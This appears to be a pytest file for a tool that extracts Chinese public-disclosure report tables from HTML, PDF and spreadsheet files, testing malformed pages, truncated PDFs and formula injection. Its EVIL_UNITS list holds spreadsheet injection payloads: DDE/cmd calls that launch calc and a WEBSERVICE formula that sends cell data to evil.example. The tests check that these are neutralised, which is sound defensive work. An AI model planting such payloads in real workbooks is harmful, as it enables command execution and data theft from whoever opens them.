"""Hostile and odd files, round 16 (u16); each case through the real CLI."""
from __future__ import annotations

import json
import re
from pathlib import Path

from hostile import assert_clean, pages_read_as_plain, xxgk

PAGE = Path(__file__).parent / "fixtures" / "corpus" / "renditions-real-2" / "pingtan_jsp_2021.html"


# ---- web pages: an element left open that takes the rest of the page ---------------------------

def test_an_element_left_open_no_longer_swallows_the_report(tmp_path):
    """A real page (平潭 君山片区 2021, 200 cells) with one start tag whose end tag is missing, before
    the report: an `<iframe src=…>` (a CMS template writing the frame without `</iframe>`), a
    `<select>` of links, a `<textarea>`, a `<noscript>`, a `<title>` in the body, an `<object>`, a
    `<script>`, a `<template>`, the obsolete `<xmp>`/`<noembed>`/`<noframes>`/`<plaintext>`, and the
    page's own `<title>` in its head without `</title>`. Each holds the rest of the page as its
    content (to a browser too: a blank page); before, each read 0 of 200 cells (F4 "no tables", or
    F5 "no text or tables" for the head title). Now each reads cell for cell as the page itself, with
    the same findings. An element closed as usual is untouched (the plain page: same output)."""
    page = PAGE.read_text(encoding="utf-8")
    at = '<div class="article_content'
    assert page.count(at) == 1 and page.count("</title>") == 1
    opened = {
        "iframe": '<iframe src="/common/share.html" width="0" height="0" frameborder="0">',
        "select": '<select onchange="location=this.value"><option value="/">相关链接<option value="/a">政府网站',
        "textarea": '<textarea name="comment" rows="3">',
        "noscript": '<noscript><img src="/stat.gif?id=1">',
        "body-title": "<title>附件下载",
        "object": '<object data="/flash/banner.swf" type="application/x-shockwave-flash">',
        "script": '<script type="text/javascript">var share = 1;',
        "template": "<template>",
        "xmp": "<xmp>", "noembed": "<noembed>", "noframes": "<noframes>", "plaintext": "<plaintext>",
    }
    variants = {f"{k}.html": page.replace(at, v + at, 1) for k, v in opened.items()}
    variants["head-title.html"] = page.replace("</title>", "", 1)
    # one closed as usual before the report, one left open after it: only the open one is taken out
    variants["closed-and-open.html"] = page.replace(at, '<iframe src="/x.html"></iframe>' + at, 1) \
        .replace("</body>", '<iframe src="/y.html"></body>', 1)
    pages_read_as_plain(tmp_path, page, variants)


# ---- a PDF cut short --------------------------------------------------------------------------

PDF = Path(__file__).parent / "fixtures" / "corpus" / "renditions-real-2" / "derived" / "pingtan_jsp_2021.pdf"


def test_a_pdf_cut_short_says_so_and_is_read_when_only_its_index_is_lost(tmp_path):
    """A real report's PDF (平潭 君山片区 2021, LibreOffice) cut short, as an interrupted download
    leaves it. Before, every cut was "文件已损坏或不是有效的 PDF（技术信息：PdfminerException）". Now a
    cut before or inside the cross-reference table at the end (every object is still in the file) is
    read — the same cells and findings as the whole file, plus one warning that the file is
    incomplete; a cut through the objects (at 30 %, at 99 %: the catalogue and page tree are written
    last) is not read in part but said to be 文件不完整, not damaged. The file is never changed."""
    data = PDF.read_bytes()
    xref = data.rindex(b"\nxref") + 1
    assert data.rstrip().endswith(b"%%EOF") and data.index(b"endobj", xref - 10) < xref
    whole = xxgk("extract", PDF)
    assert_clean(whole)
    (plain,) = json.loads(whole.out)["reports"]
    assert len(plain["cells"]) == 200
    said = sorted((f["rule"], f["message"].replace(PDF.name, "…")) for f in plain["findings"])
    read_whole = {"no-xref.pdf": xref, "in-xref.pdf": xref + 200, "no-eof.pdf": data.rindex(b"%%EOF")}
    for name, cut in read_whole.items():
        path = tmp_path / name
        path.write_bytes(data[:cut])
        run = xxgk("extract", path)
        assert_clean(run)
        assert run.code == 0, (name, run.text[-2000:])
        assert path.read_bytes() == data[:cut]
        (r,) = json.loads(run.out)["reports"]
        assert (r["unit"], r["year"], r["cells"]) == (plain["unit"], plain["year"], plain["cells"]), name
        got = sorted((f["rule"], f["message"].replace(name, "…")) for f in r["findings"])
        (warning,) = [f for f in got if f not in said]
        assert got == sorted([*said, warning]), name
        assert warning[0] == "F4" and "PDF 文件可能不完整" in warning[1] and "共 6 页" in warning[1], warning
    for name, share in (("cut-30.pdf", 0.3), ("cut-99.pdf", 0.99)):
        path = tmp_path / name
        path.write_bytes(data[:int(len(data) * share)])
        run = xxgk("check", path, "--format", "json")
        assert_clean(run)
        assert run.code == 2, (name, run.text[-2000:])
        doc = json.loads(run.out)
        assert doc["reports"] == [], name
        (f5,) = doc["findings"]
        assert f5["rule"] == "F5" and "文件不完整" in f5["message"] and "已损坏" not in f5["message"], f5


# ---- what a reviewer opens, opened by a real spreadsheet application -----------------------------

EVIL_UNITS = ["=cmd|' /C calc'!A0局", '=HYPERLINK("http://evil.example/x","点我")', "@SUM(1+1)*cmd|'/Ccalc'!A0",
              '=WEBSERVICE("http://evil.example/"&A1)', '=DDE("cmd";"/C calc";"A0")', "+1+2局",
              "[局]:*?/\\" + "名" * 200]


def _evil_collection(tmp_path: Path) -> tuple[Path, Path]:
    """A folder of the first seed as each of EVIL_UNITS, and its collection workbook (`xxgk import`)."""
    from hostile import report_text
    src = tmp_path / "in"
    src.mkdir()
    for i, unit in enumerate(EVIL_UNITS):
        (src / f"r{i}.txt").write_text(report_text(unit), encoding="utf-8")
    coll = tmp_path / "汇总.xlsx"
    run = xxgk("import", src, "-o", coll)
    assert_clean(run)
    assert run.code == 0, run.text[-2000:]
    return src, coll


def test_libreoffice_opens_every_written_sheet_with_no_formula_link_or_dde(tmp_path):
    """Unit names that are formulas, a DDE call, a web request, a hyperlink, and a 200-character name
    with the characters a sheet name cannot hold: the collection workbook (`import`), both annotated
    workbooks (from the collection, from the documents) and the CSV, each opened by LibreOffice
    headless and saved as .ods — what the application itself made of every cell. No cell is a
    formula, no link leaves the workbook, no DDE link; the names are shown as text. (openpyxl's view
    is tested in test_hostile_injection; this is the application's.)"""
    import sys
    import zipfile
    sys.path.insert(0, str(Path(__file__).parent / "readers"))
    from docfill import convert, soffice
    if soffice() is None:
        import pytest
        pytest.skip("LibreOffice (soffice) is not installed")
    src, coll = _evil_collection(tmp_path)
    written = {"collection": coll, "annotated": tmp_path / "标注.xlsx", "documents": tmp_path / "文档标注.xlsx"}
    run = xxgk("check", coll, "--annotate", written["annotated"], "--format", "csv")
    assert_clean(run)
    assert run.code == 1, run.text[-2000:]
    (tmp_path / "结果.csv").write_text(run.out, encoding="utf-8-sig")
    run = xxgk("check", src, "--annotate", written["documents"])
    assert_clean(run)
    assert run.code == 1, run.text[-2000:]
    out = tmp_path / "ods"
    out.mkdir()
    shown = ""
    for what, path in [*written.items(), ("csv", tmp_path / "结果.csv")]:
        ods = convert(path, out, "ods")
        content = zipfile.ZipFile(ods).read("content.xml").decode("utf-8")
        assert "table:formula=" not in content, what
        assert "dde-source" not in content and "dde-link" not in content, what
        links = [h for h in re.findall(r'xlink:href="([^"]*)"', content) if not h.startswith(("#", "./Object"))]
        assert links == [], (what, links[:5])
        shown += content
        ods.unlink()
    for text in ("=cmd|'/Ccalc'!A0", "@SUM(1+1)*cmd|", "=WEBSERVICE(", "=DDE(", "=HYPERLINK("):
        assert text in shown.replace("&apos;", "'"), text       # as text: units read, prose kept


def test_the_lite_script_on_a_hostile_collection_writes_text_and_inner_links_only(tmp_path):
    """xlwings Lite (`custom_scripts_call` on the Office.js payload, as test_lite runs it) on the
    collection of those units, edited as an office might: a sheet renamed `=1+2`, a unit cell holding
    `=HYPERLINK(…)` as text, a 40,000-character cell. Every value and argument the script sends Excel
    that starts like a formula carries Excel's text marker `'`, every link stays inside the workbook
    (`#'sheet'!A1`), and nothing longer than a cell holds (32,767) is sent."""
    import openpyxl
    import test_lite
    src, coll = _evil_collection(tmp_path)
    wb = openpyxl.load_workbook(coll)
    first = wb[wb.sheetnames[1]]
    unit_cell = next(r[1] for r in first.iter_rows(max_col=2) if r[0].value == "单位")
    unit_cell.value = '=HYPERLINK("http://evil.example/","点我")'
    unit_cell.data_type = "s"
    first.title = "=1+2"
    wb[wb.sheetnames[2]]["H1"] = "长" * 40000
    wb.save(coll)
    lite = tmp_path / "lite"
    lite.mkdir()
    actions = test_lite._lite(coll, lite)["actions"]
    sent = []
    for a in actions:
        for row in a.get("values") or []:
            sent.extend(row if isinstance(row, list) else [row])
        sent.extend(a.get("args") or [])
    texts = [v for v in sent if isinstance(v, str)]
    assert not [v for v in texts if v.startswith(("=", "+", "-", "@"))], [v for v in texts if v[:1] in "=+-@"][:5]
    assert max(map(len, texts)) <= 32767
    links = [a["args"][0] for a in actions if a["func"] == "addHyperlink"]
    assert links and all(link.startswith("#'") for link in links), [x for x in links if not x.startswith("#'")]
    assert "'=HYPERLINK(\"http://evil.example/\",\"点我\") 2019" in texts      # shown, as text
    assert "#'=1+2'!A1" in links


# ---- folders ------------------------------------------------------------------------------------

def test_many_unreadable_inputs_are_listed_one_line_each_not_a_table_each(tmp_path):
    """A folder of 100,000 empty files: `xxgk check FOLDER` drew a table for each (3 ms each): 338 s,
    CPU 100 s, 600,001 lines. Now, past 50, they are listed after the reports' tables one line each,
    as --summary lists them (22 s, CPU 6 s, 206 MB; 100,002 lines), every one named with its reason;
    a few (≤ 50) keep their tables. Here 60 empty files beside a real report, and 3."""
    from hostile import SEEDS
    seed = sorted(SEEDS.glob("*.txt"))[0]
    for n in (60, 3):
        folder = tmp_path / f"in{n}"
        folder.mkdir()
        (folder / "报告.txt").write_bytes(seed.read_bytes())
        for i in range(n):
            (folder / f"空{i:02d}.txt").write_bytes(b"")
        run = xxgk("check", folder)
        assert_clean(run)
        assert run.code == 2, run.text[-2000:]
        lines = [x for x in run.out.splitlines() if x.startswith("无法读取：")]
        tables = run.out.count("┏━")
        if n == 60:
            assert f"无法读取的输入 {n} 个：" in run.out
            assert len(lines) == n and tables == 1, (len(lines), tables)       # the report's table only
            assert {x.split("：")[1] for x in lines} == {str(folder / f"空{i:02d}.txt") for i in range(n)}
            assert all(x.endswith("是空文件，没有可读取的内容。") for x in lines), lines[:3]
        else:
            assert lines == [] and tables == 1 + n, (lines, tables)
        assert f"无法读取的输入 {n} 个。" in run.out      # the totals line, as before
